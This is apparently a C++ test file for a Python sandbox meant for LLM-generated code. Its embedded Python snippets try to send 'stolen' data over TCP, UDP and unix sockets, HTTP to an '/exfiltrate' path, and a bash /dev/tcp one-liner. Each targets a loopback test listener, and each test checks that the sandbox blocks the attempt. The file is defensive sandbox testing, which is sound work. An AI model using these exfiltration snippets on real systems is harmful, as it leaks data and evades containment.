// Attacks on the network: every family of socket towards listeners this test opens on the
// host's loopback, DNS, and the high-level modules an LLM would reach for. Each asserts the
// verdict and that the listener saw nothing.
#include "tests/sandbox/attack_support.h"

using namespace autoif::attack;

namespace {

std::string port_of(const Listener& listener) { return std::to_string(listener.port()); }

}  // namespace

TEST_CASE("a TCP connection to a loopback listener is forbidden and reaches nobody") {
  Listener listener(Listener::Kind::tcp);
  auto result = run(attack_source(fill(R"PY(
def attack():
    _socket = load("_socket")
    try:
        s = _socket.socket(_socket.AF_INET, _socket.SOCK_STREAM)
        s.connect(("127.0.0.1", @PORT@))
        s.send(b"stolen")
        return True
    except BaseException:
        return False
)PY",
                                       {{"PORT", port_of(listener)}})),
                    kBatch);
  require_attack_stopped(result, {Status::forbidden});
  CHECK_FALSE(listener.reached());
}

TEST_CASE("a UDP datagram to a loopback listener is forbidden and arrives nowhere") {
  Listener listener(Listener::Kind::udp);
  auto result = run(attack_source(fill(R"PY(
def attack():
    _socket = load("_socket")
    try:
        s = _socket.socket(_socket.AF_INET, _socket.SOCK_DGRAM)
        s.sendto(b"stolen", ("127.0.0.1", @PORT@))
        return True
    except BaseException:
        return False
)PY",
                                       {{"PORT", port_of(listener)}})),
                    kBatch);
  require_attack_stopped(result, {Status::forbidden});
  CHECK_FALSE(listener.reached());
}

TEST_CASE("a unix socket connection to a listening path is forbidden and reaches nobody") {
  Listener listener(Listener::Kind::unix_path);
  auto result = run(attack_source(fill(R"PY(
def attack():
    _socket = load("_socket")
    try:
        s = _socket.socket(_socket.AF_UNIX, _socket.SOCK_STREAM)
        s.connect(@PATH@)
        s.send(b"stolen")
        return True
    except BaseException:
        return False
)PY",
                                       {{"PATH", py_str(listener.unix_name())}})),
                    kBatch);
  require_attack_stopped(result, {Status::forbidden});
  CHECK_FALSE(listener.reached());
}

TEST_CASE("a connection to an abstract unix socket is forbidden and reaches nobody") {
  // Abstract names ignore the filesystem, so a chroot alone would not stop this one.
  Listener listener(Listener::Kind::unix_abstract);
  auto result = run(attack_source(fill(R"PY(
def attack():
    _socket = load("_socket")
    try:
        s = _socket.socket(_socket.AF_UNIX, _socket.SOCK_STREAM)
        s.connect("\0" + @NAME@)
        s.send(b"stolen")
        return True
    except BaseException:
        return False
)PY",
                                       {{"NAME", py_str(listener.unix_name())}})),
                    kBatch);
  require_attack_stopped(result, {Status::forbidden});
  CHECK_FALSE(listener.reached());
}

TEST_CASE("a DNS lookup with getaddrinfo resolves nothing") {
  auto result = run(attack_source(R"PY(
def attack():
    _socket = load("_socket")
    found = _socket.getaddrinfo("localhost", 80) + _socket.getaddrinfo("example.com", 80)
    return len(found) > 0
)PY"),
                    kBatch);
  require_attack_stopped(result, {Status::forbidden, Status::runtime_error});
}

TEST_CASE("a reverse DNS lookup with gethostbyaddr resolves nothing") {
  auto result = run(attack_source(R"PY(
def attack():
    _socket = load("_socket")
    return len(_socket.gethostbyaddr("127.0.0.1")[0]) > 0
)PY"),
                    kBatch);
  require_attack_stopped(result, {Status::forbidden, Status::runtime_error});
}

TEST_CASE("the socket module is not importable and a connection through it reaches nobody") {
  Listener listener(Listener::Kind::tcp);
  auto result = run(attack_source(fill(R"PY(
def attack():
    import socket
    socket.create_connection(("127.0.0.1", @PORT@)).sendall(b"stolen")
    return True
)PY",
                                       {{"PORT", port_of(listener)}})),
                    kBatch);
  require_attack_stopped(result, {Status::runtime_error});
  CHECK_THAT(result.verdicts[1].message, Catch::Contains("socket"));
  CHECK_FALSE(listener.reached());
}

TEST_CASE("asyncio is not importable and an asyncio connection reaches nobody") {
  Listener listener(Listener::Kind::tcp);
  auto result = run(attack_source(fill(R"PY(
def attack():
    import asyncio
    async def go():
        reader, writer = await asyncio.open_connection("127.0.0.1", @PORT@)
        writer.write(b"stolen")
        await writer.drain()
    asyncio.run(go())
    return True
)PY",
                                       {{"PORT", port_of(listener)}})),
                    kBatch);
  require_attack_stopped(result, {Status::runtime_error});
  CHECK_THAT(result.verdicts[1].message, Catch::Contains("asyncio"));
  CHECK_FALSE(listener.reached());
}

TEST_CASE("urllib is not importable and an HTTP request through it reaches nobody") {
  Listener listener(Listener::Kind::tcp);
  auto result = run(attack_source(fill(R"PY(
def attack():
    import urllib.request
    urllib.request.urlopen("http://127.0.0.1:@PORT@/exfiltrate", timeout=1).read()
    return True
)PY",
                                       {{"PORT", port_of(listener)}})),
                    kBatch);
  require_attack_stopped(result, {Status::runtime_error});
  CHECK_THAT(result.verdicts[1].message, Catch::Contains("urllib"));
  CHECK_FALSE(listener.reached());
}

TEST_CASE("a shell command through os.system that would connect to a listener is forbidden") {
  Listener listener(Listener::Kind::tcp);
  auto result = run(attack_source(fill(R"PY(
def attack():
    try:
        os.system("exec 3<>/dev/tcp/127.0.0.1/@PORT@; echo stolen >&3")
    except BaseException:
        pass
    return True
)PY",
                                       {{"PORT", port_of(listener)}})),
                    kBatch);
  require_attack_stopped(result, {Status::forbidden});
  CHECK_FALSE(listener.reached());
}

TEST_CASE("a local socket pair is forbidden even though it reaches no other host") {
  auto result = run(attack_source(R"PY(
def attack():
    _socket = load("_socket")
    try:
        a, b = _socket.socketpair()
        a.send(b"x")
        return b.recv(1) == b"x"
    except BaseException:
        return False
)PY"),
                    kBatch);
  require_attack_stopped(result, {Status::forbidden});
}
